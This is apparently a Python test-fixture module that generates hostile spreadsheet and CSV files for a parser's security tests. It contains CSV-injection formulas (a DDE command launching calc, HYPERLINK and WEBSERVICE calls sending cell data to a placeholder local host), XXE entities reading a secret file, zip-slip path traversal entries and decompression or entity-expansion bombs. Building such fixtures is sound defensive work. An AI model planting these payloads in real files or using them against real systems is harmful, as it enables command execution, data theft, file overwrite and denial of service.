"""Workbooks and tables: formulas that act, links to elsewhere, entities, and parts that unpack to more than memory."""

from __future__ import annotations

import io
import zipfile

import openpyxl

from tests.hostile.making import Files
from tests.hostile.making.pictures import laughs

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/leak?x="&A1,"click")',
    '=WEBSERVICE("http://127.0.0.1:9/leak")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
)
"""Cells that a spreadsheet program works out, as OWASP's "CSV injection" lists them."""

_OPEN_XML = "http://schemas.openxmlformats.org"
_SHEET = (
    '<?xml version="1.0"?>{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<sheetData>{rows}</sheetData></worksheet>"
)


def active(secret: str, web: str) -> Files:
    """Tables that would fetch, send or run something when worked out."""
    quoted = "\n".join('"{}","x"'.format(cell.replace('"', '""')) for cell in FORMULAS)
    link = (
        f'<?xml version="1.0"?><externalLink xmlns="{_OPEN_XML}/spreadsheetml/2006/main" '
        f'xmlns:r="{_OPEN_XML}/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>'
    )
    relations = (
        f'<?xml version="1.0"?><Relationships xmlns="{_OPEN_XML}/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" Target="{}" '
        f'Type="{_OPEN_XML}/officeDocument/2006/relationships/externalLinkPath"/></Relationships>'
    )
    doctype = f'<!DOCTYPE x [<!ENTITY s SYSTEM "file://{secret}"><!ENTITY w SYSTEM "{web}/e">]>'
    cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>&s;&w;</t></is></c></row>'
    return {
        "formulas.csv": f"cell,what\n{quoted}\n".encode(),
        "formulas.xlsx": workbook(),
        "links.xlsx": changed(
            {
                "xl/externalLinks/externalLink1.xml": link.encode(),
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations.format(f"{web}/other.xlsx").encode(),
                "xl/worksheets/_rels/sheet1.xml.rels": relations.format(f"file://{secret}").encode(),
                "xl/connections.xml": f'<connections><connection url="{web}/q"/></connections>'.encode(),
            }
        ),
        "entities.xlsx": changed({"xl/worksheets/sheet1.xml": _SHEET.format(doctype=doctype, rows=cell).encode()}),
        "up.xlsx": changed({"../../../../tmp/pwned": b"x", "/etc/pwned": b"x", "..\\..\\pwned": b"x"}),
    }


def oversized() -> Files:
    """Tables that unpack to more than memory, or claim more rows than there are."""
    head, tail = _SHEET.format(doctype="", rows="|").encode().split(b"|")
    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 4000 + b"</t></is></c></row>"
    far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return {
        "bomb.xlsx": changed({"xl/worksheets/sheet1.xml": head + row * 15_000 + tail}),
        "blank-bomb.xlsx": changed({"xl/worksheets/sheet1.xml": head + b" " * (60 << 20) + tail}),
        "strings-bomb.xlsx": changed({"xl/sharedStrings.xml": b"<sst>" + b"<si><t>x</t></si>" * 2_000_000 + b"</sst>"}),
        "lying-bomb.xlsx": _lying(changed({"xl/worksheets/sheet1.xml": head + b" " * (120 << 20) + tail})),
        "laughs.xlsx": changed({"xl/sharedStrings.xml": laughs("sst")}),
        "far.xlsx": changed({"xl/worksheets/sheet1.xml": head + far + tail}),
        "empty-zip.xlsx": b"PK\5\6" + bytes(18),
        "wide.csv": b"a," * 3_000_000 + b"\n",
        "quote.csv": b'a,"' + b"never closed " * 300_000,
    }


def workbook() -> bytes:
    """A small workbook, formulas in it."""
    book = openpyxl.Workbook()
    assert book.active is not None
    for formula in FORMULAS[:3]:
        book.active.append([formula, "x"])
    book.active.append(["Dana Exampleson", 12])
    book.save(made := io.BytesIO())
    return made.getvalue()


def changed(parts: Files) -> bytes:
    """The workbook with some of its parts put in place of its own or beside them."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook())) as old,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as new,
    ):
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, data in parts.items():
            new.writestr(name, data)
    return made.getvalue()


def _lying(data: bytes) -> bytes:
    """The same with small sizes written into its table of contents."""
    out = bytearray(data)
    at = out.find(b"PK\1\2")
    while at >= 0:
        size = int.from_bytes(out[at + 24 : at + 28], "little")
        out[at + 24 : at + 28] = min(size, 1000).to_bytes(4, "little")
        at = out.find(b"PK\1\2", at + 4)
    return bytes(out)
